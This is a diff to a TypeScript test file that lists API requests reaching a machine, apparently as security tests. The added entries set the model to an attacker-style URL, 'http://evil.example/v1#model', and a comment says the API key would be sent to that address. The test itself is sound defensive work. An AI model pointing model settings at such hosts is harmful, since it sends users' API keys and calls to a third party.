@@ -115,6 +115,9 @@ const MACHINE: readonly [string, string, unknown][] = [
   ['POST', '/api/mcp-servers', { name: 'X', transport: { type: 'stdio', command: 'x', args: [] } }],
   ['PATCH', '/api/mcp-servers/files', { shared: true }],
   ['POST', '/api/members', { userId: 'ada' }],
+  // The key is sent to the address in the name of a model, and that model then makes the calls.
+  ['PATCH', '/api/settings', { model: 'http://evil.example/v1#model' } satisfies SettingsPatch],
+  ['POST', '/api/settings/test-model', { model: 'http://evil.example/v1#model' }],
 ]
 
 describe('what reaches the machine', () => {
